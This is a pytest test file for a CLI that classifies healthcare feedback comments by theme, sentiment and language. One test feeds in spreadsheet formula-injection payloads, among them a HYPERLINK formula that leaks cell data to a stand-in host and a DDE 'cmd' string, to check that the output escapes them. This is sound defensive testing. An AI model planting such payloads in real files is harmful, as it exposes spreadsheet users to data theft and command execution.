"""`baton feedback classify|train|info`: columns, streaming, bad input, retrained models."""

from __future__ import annotations

import csv
import re

import numpy as np
import pytest

from baton.insight.feedback import cli
from baton.insight.feedback import engine as E

LABELS = E.sub_categories()
# The first version's columns, then the ones added since: at the end, so positions do not move.
OUT_COLUMNS = ["comment_id", "sentiment", *LABELS, "confidence", "language", "note"]


def _write(path, header, rows, encoding="utf-8"):
    with open(path, "w", encoding=encoding, newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def _read(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def labelled_slice(tmp_path_factory):
    """A small labelled CSV with the shared file's columns (every 10th row)."""
    src = E.LABELLED_PATH
    out = tmp_path_factory.mktemp("data") / "labelled.csv"
    with open(src, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    with open(out, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(rows[0])
        w.writerows(rows[1::10])
    return out


@pytest.fixture(scope="module")
def tiny_model_path(labelled_slice, tmp_path_factory):
    path = tmp_path_factory.mktemp("model") / "tiny.npz"
    assert cli.main(["train", str(labelled_slice), "--out", str(path), "--folds", "2", "-q"]) == 0
    return path


@pytest.fixture
def comments(tmp_path):
    return _write(
        tmp_path / "in.csv",
        ["comment_id", "comment_text", "question_type"],
        [
            ["a1", "The crew were kind and explained everything", "what_good"],
            ["a2", "Waited four hours for the ambulance to arrive", "could_improve"],
            ["a3", "Did not answer", "nonspecific"],
            ["a4", "Nothing", "could_improve"],
            ["a5", "", "what_good"],
            ["a6", "Couldn't get through on the phone, 111 kept me on hold", ""],
        ],
    )


def test_classify_writes_the_documented_columns(comments, tmp_path, tiny_model_path, capsys):
    out = tmp_path / "out.csv"
    assert cli.main(["classify", str(comments), "--out", str(out), "--model", str(tiny_model_path)]) == 0
    with open(out, encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    assert header == OUT_COLUMNS
    rows = _read(out)
    assert [r["comment_id"] for r in rows] == ["a1", "a2", "a3", "a4", "a5", "a6"]
    for r in rows:
        assert r["sentiment"] in {"1", "2", "3", "4", "5"}
        assert all(r[lab] in {"0", "1"} for lab in LABELS)
        assert 0.0 <= float(r["confidence"]) <= 1.0
        assert sum(int(r[lab]) for lab in LABELS) >= 1
    assert rows[2]["Labelling not possible"] == "1"
    assert rows[4]["Labelling not possible"] == "1"
    assert rows[0]["Labelling not possible"] == "0"
    # progress goes to a terminal only: none here
    assert "classifying:" not in capsys.readouterr().err


def test_classify_with_the_shipped_model_and_no_question_type(tmp_path, monkeypatch):
    monkeypatch.delenv(E.MODEL_ENV_VAR, raising=False)
    src = _write(
        tmp_path / "in.csv",
        ["comment_text", "comment_id", "extra"],
        [["Lovely staff", "7", "x"], ["Rude receptionist", "8", "y"]],
    )
    out = tmp_path / "out.csv"
    assert cli.main(["classify", str(src), "--out", str(out), "-q"]) == 0
    rows = _read(out)
    assert [r["comment_id"] for r in rows] == ["7", "8"]
    assert list(rows[0].keys()) == OUT_COLUMNS


def test_classify_streams_in_chunks_and_is_deterministic(tmp_path, tiny_model_path):
    texts = ["Staff were great", "Too long a wait", "Did not answer", "Food was cold", "The nurse listened to me"]
    src = _write(
        tmp_path / "in.csv", ["comment_id", "comment_text"], [[str(i), texts[i % len(texts)]] for i in range(203)]
    )
    out1, out2 = tmp_path / "o1.csv", tmp_path / "o2.csv"
    model = E.FeedbackModel.load(tiny_model_path)
    assert cli.classify_csv(src, out1, model=model, chunk_size=10) == 203
    assert cli.classify_csv(src, out2, model=model, chunk_size=1000) == 203
    assert out1.read_bytes() == out2.read_bytes()
    rows = _read(out1)
    assert len(rows) == 203 and rows[-1]["comment_id"] == "202"
    # same text, same answer wherever it sits in the file
    assert rows[0] == {**rows[5], "comment_id": "0"}


def test_retrained_model_is_used(tmp_path, labelled_slice, monkeypatch):
    """A model trained on one organisation's labels changes the output: via --model and env."""
    # an organisation whose analysts tag every comment "Feeling safe" and call it very negative
    with open(labelled_slice, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    fields = list(rows[0].keys())
    for i, r in enumerate(rows):
        for lab in LABELS:
            r[lab] = "0"
        r["Feeling safe" if i % 5 else "Food & drink provision & facilities"] = "1"
        r["sentiment"] = "5" if i % 5 else "4"
    org = tmp_path / "org.csv"
    with open(org, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        w.writerows(rows)
    model = tmp_path / "org.npz"
    assert cli.main(["train", str(org), "--out", str(model), "--folds", "0", "-q"]) == 0
    src = _write(
        tmp_path / "in.csv",
        ["comment_id", "comment_text"],
        [["1", "The paramedic was wonderful"], ["2", "Thank you so much"]],
    )

    out = tmp_path / "out.csv"
    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(model), "-q"]) == 0
    got = _read(out)
    assert all(r["Feeling safe"] == "1" for r in got)
    assert all(r["Positive experience & gratitude"] == "0" for r in got)
    assert all(r["sentiment"] in {"4", "5"} for r in got)

    monkeypatch.setenv(E.MODEL_ENV_VAR, str(model))
    out_env = tmp_path / "out_env.csv"
    assert cli.main(["classify", str(src), "--out", str(out_env), "-q"]) == 0
    assert out_env.read_bytes() == out.read_bytes()

    monkeypatch.delenv(E.MODEL_ENV_VAR)
    out_default = tmp_path / "out_default.csv"
    assert cli.main(["classify", str(src), "--out", str(out_default), "-q"]) == 0
    assert out_default.read_bytes() != out.read_bytes()


def _one_line_error(capsys, code, expected_code=2):
    assert code == expected_code
    err = capsys.readouterr().err.strip()
    assert err.startswith("baton feedback: ") and "\n" not in err
    return err


@pytest.mark.parametrize(
    "header,expected",
    [
        (["comment_id", "text"], "comment_text"),
        (["id", "comment_text"], "comment_id"),
    ],
)
def test_missing_columns(tmp_path, capsys, tiny_model_path, header, expected):
    src = _write(tmp_path / "in.csv", header, [["1", "hello"]])
    out = tmp_path / "out.csv"
    code = cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path)])
    assert expected in _one_line_error(capsys, code)
    assert not out.exists()


def test_empty_file(tmp_path, capsys, tiny_model_path):
    src = tmp_path / "in.csv"
    src.write_bytes(b"")
    code = cli.main(["classify", str(src), "--out", str(tmp_path / "o.csv"), "--model", str(tiny_model_path)])
    assert "empty" in _one_line_error(capsys, code)


def test_header_only(tmp_path, capsys, tiny_model_path):
    src = _write(tmp_path / "in.csv", ["comment_id", "comment_text"], [])
    out = tmp_path / "o.csv"
    code = cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path)])
    assert "no rows" in _one_line_error(capsys, code)
    assert not out.exists()


def test_wrong_encoding(tmp_path, capsys, tiny_model_path):
    rows = [[str(i), "Staff were lovely"] for i in range(5000)] + [["x", "Café was très bon £5"]]
    src = _write(tmp_path / "in.csv", ["comment_id", "comment_text"], rows, encoding="cp1252")
    out = tmp_path / "o.csv"
    code = cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "--chunk-size", "500"])
    assert "UTF-8" in _one_line_error(capsys, code)
    assert not out.exists()  # no half-written output
    assert not list(tmp_path.glob(".o.csv*"))


def test_missing_file(tmp_path, capsys):
    code = cli.main(["classify", str(tmp_path / "nope.csv"), "--out", str(tmp_path / "o.csv")])
    assert "no such file" in _one_line_error(capsys, code)


def test_bad_model(tmp_path, capsys, comments):
    bad = tmp_path / "bad.npz"
    bad.write_bytes(b"garbage")
    code = cli.main(["classify", str(comments), "--out", str(tmp_path / "o.csv"), "--model", str(bad)])
    assert "cannot load" in _one_line_error(capsys, code, expected_code=3)


def test_utf8_bom_is_fine(tmp_path, tiny_model_path):
    src = _write(tmp_path / "in.csv", ["comment_id", "comment_text"], [["1", "Great care"]], encoding="utf-8-sig")
    out = tmp_path / "o.csv"
    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
    assert _read(out)[0]["comment_id"] == "1"


def test_unknown_question_type_warns_once(tmp_path, capsys, tiny_model_path):
    src = _write(
        tmp_path / "in.csv",
        ["comment_id", "comment_text", "question_type"],
        [["1", "Great", "banana"], ["2", "Bad", "banana"]],
    )
    assert (
        cli.main(["classify", str(src), "--out", str(tmp_path / "o.csv"), "--model", str(tiny_model_path), "-q"]) == 0
    )
    err = capsys.readouterr().err
    assert err.count("banana") == 1 and "nonspecific" in err


@pytest.mark.parametrize(
    "content,expected",
    [
        ("", "empty"),
        ("comment_id,text\n1,hello\n", "comment_text"),
        ("comment_id,comment_text,Parking\n", "no rows"),
        ("comment_id,comment_text,sentiment\n1,hi,2\n", "sub-category"),
    ],
)
def test_train_bad_input(tmp_path, capsys, content, expected):
    src = tmp_path / "l.csv"
    src.write_text(content, encoding="utf-8")
    code = cli.main(["train", str(src), "--out", str(tmp_path / "m.npz")])
    assert expected in _one_line_error(capsys, code)


def test_train_needs_npz_out(tmp_path, capsys, labelled_slice):
    code = cli.main(["train", str(labelled_slice), "--out", str(tmp_path / "m.joblib")])
    assert ".npz" in _one_line_error(capsys, code)


def test_info(capsys, tiny_model_path):
    assert cli.main(["info", "--model", str(tiny_model_path)]) == 0
    out = capsys.readouterr().out
    assert '"labels": 32' in out
    assert '"sentiment_group_model": true' in out and '"lexicon_concepts": 31' in out


def test_progress_on_a_terminal(tmp_path, tiny_model_path, capsys):
    src = _write(tmp_path / "in.csv", ["comment_id", "comment_text"], [[str(i), "ok"] for i in range(50)])
    model = E.FeedbackModel.load(tiny_model_path)
    cli.classify_csv(src, tmp_path / "o.csv", model=model, chunk_size=10, progress=True)
    err = capsys.readouterr().err
    assert "classifying:" in err and "50 comments" in err


def test_output_matches_engine(tmp_path, tiny_model_path, comments):
    out = tmp_path / "o.csv"
    model = E.FeedbackModel.load(tiny_model_path)
    cli.classify_csv(comments, out, model=model)
    rows = _read(out)
    with open(comments, encoding="utf-8", newline="") as fh:
        src = list(csv.DictReader(fh))
    p = model.predict([r["comment_text"] for r in src], [r["question_type"] for r in src])
    got = np.array([[int(r[lab]) for lab in LABELS] for r in rows])
    assert np.array_equal(got, p.labels)
    assert [int(r["sentiment"]) for r in rows] == p.sentiment.tolist()


def test_long_comments_and_quoted_newlines(tmp_path, tiny_model_path):
    long_text = "The staff were kind. " * 10_000  # 210,000 characters, past csv's default limit
    src = _write(
        tmp_path / "in.csv",
        ["comment_id", "comment_text"],
        [["1", long_text], ["2", "Line one\nline two, with a comma"]],
    )
    out = tmp_path / "o.csv"
    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
    assert [r["comment_id"] for r in _read(out)] == ["1", "2"]


def test_runs_as_a_module(tmp_path, tiny_model_path):
    import subprocess
    import sys

    src = _write(tmp_path / "in.csv", ["comment_id", "comment_text"], [["1", "Great care"]])
    out = tmp_path / "o.csv"
    cmd = [
        sys.executable,
        "-m",
        "baton.insight.feedback.cli",
        "classify",
        str(src),
        "--out",
        str(out),
        "--model",
        str(tiny_model_path),
    ]
    done = subprocess.run(cmd, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "classified 1 comments" in done.stderr
    bad = subprocess.run(cmd[:4] + [str(tmp_path / "missing.csv")] + cmd[5:], capture_output=True, text=True)
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1


def test_short_rows_are_padded(tmp_path, tiny_model_path):
    src = tmp_path / "in.csv"
    src.write_text("comment_id,comment_text,question_type\n1,Great care\n2\n", encoding="utf-8")
    out = tmp_path / "o.csv"
    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
    rows = _read(out)
    assert [r["comment_id"] for r in rows] == ["1", "2"]
    assert rows[1]["Labelling not possible"] == "1"


def test_formulas_in_ids_and_comments_never_reach_the_spreadsheet(tmp_path, tiny_model_path):
    hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    src = _write(
        tmp_path / "in.csv",
        ["comment_id", "comment_text"],
        [
            [hyperlink, "The crew were kind"],
            ["+cmd|' /C calc'!A0", "Waited four hours"],
            ["@SUM(1+1)", hyperlink],
            ["-3", "Food was cold"],
            ["-0.5", "@SUM(1+1)"],
        ],
    )
    out = tmp_path / "o.csv"
    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
    rows = _read(out)
    assert [r["comment_id"] for r in rows] == ["'" + hyperlink, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "-3", "-0.5"]
    with open(out, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    numbers = re.compile(r"-?\d+(\.\d+)?")
    assert all(c[:1] not in {"=", "+", "@", "-"} or numbers.fullmatch(c) for c in cells)


def test_comments_in_other_languages_are_named_and_left_for_a_person(tmp_path, tiny_model_path):
    src = _write(
        tmp_path / "in.csv",
        ["comment_id", "comment_text", "question_type"],
        [
            ["1", "انتظرت خمس ساعات في قسم الطوارئ ولم يتحدث معي أي طبيب. الممرضة كانت وقحة جداً.", "could_improve"],
            ["2", "میں نے ایمبولینس کے لیے چار گھنٹے انتظار کیا اور کسی نے میری بات نہیں سنی۔", "could_improve"],
            ["3", "Czekałem pięć godzin na lekarza i nikt mi nie pomógł. Pielęgniarka była bardzo niemiła.", ""],
            ["4", "Waited five hours and no doctor spoke to me, the nurse was rude", "could_improve"],
            ["5", "ok", "what_good"],
        ],
    )
    out = tmp_path / "o.csv"
    assert cli.main(["classify", str(src), "--out", str(out), "--model", str(tiny_model_path), "-q"]) == 0
    rows = _read(out)
    for r, code, name in zip(rows, ["ar", "ur", "pl"], ["Arabic", "Urdu", "Polish"]):
        assert r["language"] == code
        assert r["note"] == f"not English ({name}): no themes or sentiment given"
        assert r["sentiment"] == "" and r["confidence"] == "0.000"
        assert all(r[lab] == "0" for lab in LABELS)
    english, short = rows[3], rows[4]
    assert english["language"] == "en" and english["note"] == "" and english["sentiment"] in {"4", "5"}
    assert short["language"] == "" and short["note"] == "" and short["sentiment"] in {"1", "2", "3", "4", "5"}
    assert sum(int(english[lab]) for lab in LABELS) >= 1 and sum(int(short[lab]) for lab in LABELS) >= 1


def test_train_can_learn_from_phase1_comments_too(tmp_path, labelled_slice, capsys):
    p1 = _write(
        tmp_path / "p1.csv",
        ["comment_id", "source", "question", "comment_text", "old_category", "old_subcategory", "criticality"],
        [
            ["p1", "Trust A", "Q1", "The porridge was cold and lumpy", "Environment", "Food", "-3"],
            ["p2", "Trust C", "Q1", "Lovely food and a nice garden", "Environment", "Food", "3"],
            ["p3", "Trust B", "Q1", "Leave was cancelled again", "Access", "Leave (under MHA)", "0"],
        ],
    )
    mapping = tmp_path / "map.json"
    mapping.write_text('{"Food": "Food & drink provision & facilities", "Leave (under MHA)": "Mental Health Act"}')
    out = tmp_path / "m.npz"
    args = ["train", str(labelled_slice), "--out", str(out), "--folds", "0", "-q"]
    assert cli.main([*args, "--phase1", str(p1), "--phase1-map", str(mapping)]) == 0
    assert E.FeedbackModel.load(out).meta["extra_comments"] == 3
    assert cli.main([*args, "--phase1", str(tmp_path / "none.csv"), "--phase1-map", str(mapping)]) == 2
    assert "none.csv: no such file" in capsys.readouterr().err
    assert cli.main([*args, "--phase1", str(p1)]) == cli.EXIT_BAD_INPUT
    assert "go together" in capsys.readouterr().err
